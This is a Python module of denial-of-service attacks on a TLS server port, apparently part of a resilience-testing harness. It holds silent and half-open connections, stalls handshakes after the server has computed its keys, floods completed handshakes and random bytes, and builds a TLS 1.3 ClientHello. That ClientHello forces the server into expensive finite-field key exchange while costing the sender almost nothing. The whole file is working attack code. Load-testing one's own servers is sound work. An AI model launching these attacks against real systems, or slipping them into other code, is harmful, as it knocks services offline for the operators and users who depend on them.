"""Attacks of a peer that knows only the address of a port."""

import os
import ssl
import struct


def silent(target, port, count):
    """Opens silent connections."""
    target.hold(count, lambda: target.connect(target.port(port)))


def half_handshakes(target, port, count):
    """Opens connections that stop in the middle of a valid ClientHello."""
    start = client_hello(target)[:100]

    def begin():
        connection = target.connect(target.port(port))
        connection.sendall(start)
        return connection

    target.hold(count, begin)


def unfinished_handshakes(target, port, count):
    """Opens connections that let the server compute its keys and signature, and then stay silent."""
    hello = client_hello(target)

    def begin():
        connection = target.connect(target.port(port))
        connection.sendall(hello)
        return connection

    target.hold(count, begin)


def handshakes(target, port, threads, holder=""):
    """Completes as many handshakes as possible, without a request."""

    def once(_):
        target.secure(target.port(port), holder).close()
        target.did()

    target.together(threads, once)


def costly_groups(target, port, threads, group):
    """Sends ClientHellos that offer only the most expensive key exchange."""

    def once(_):
        connection = target.connect(target.port(port))
        try:
            connection.sendall(hello_with_group(group))
            target.did()
            # 22 is a handshake message: the server has computed a key of this group.
            if connection.recv(1) == b"\x16":
                target.gained(f"a key exchange in group {group:#06x}")
        finally:
            connection.close()

    target.together(threads, once)


def garbage(target, port, threads):
    """Sends random bytes."""

    def once(_):
        connection = target.connect(target.port(port), timeout=0.5)
        try:
            connection.sendall(os.urandom(4096))
            target.did()
            while connection.recv(4096):
                pass
        finally:
            connection.close()

    target.together(threads, once)


def client_hello(target):
    """The first bytes of an OpenSSL handshake."""
    into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = target.context().wrap_bio(into, out, server_hostname="localhost")
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


# The size of a public key of each finite-field group of RFC 7919.
FINITE_FIELD_BYTES = {0x0100: 256, 0x0101: 384, 0x0102: 512, 0x0103: 768, 0x0104: 1024}


def extension(kind, content):
    return struct.pack(">HH", kind, len(content)) + content


def hello_with_group(group):
    """A TLS 1.3 ClientHello (RFC 8446, 4.1.2) with a valid share of one finite-field group, which costs its sender nothing."""
    share = bytes(FINITE_FIELD_BYTES[group] - 1) + b"\x04"
    extensions = b"".join(
        [
            extension(43, b"\x02\x03\x04"),
            extension(10, struct.pack(">HH", 2, group)),
            extension(13, b"\x00\x06\x04\x03\x08\x04\x08\x09"),
            extension(51, struct.pack(">HHH", len(share) + 4, group, len(share)) + share),
        ]
    )
    body = b"\x03\x03" + os.urandom(32) + b"\x20" + os.urandom(32) + b"\x00\x02\x13\x01\x01\x00"
    body += struct.pack(">H", len(extensions)) + extensions
    message = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack(">H", len(message)) + message
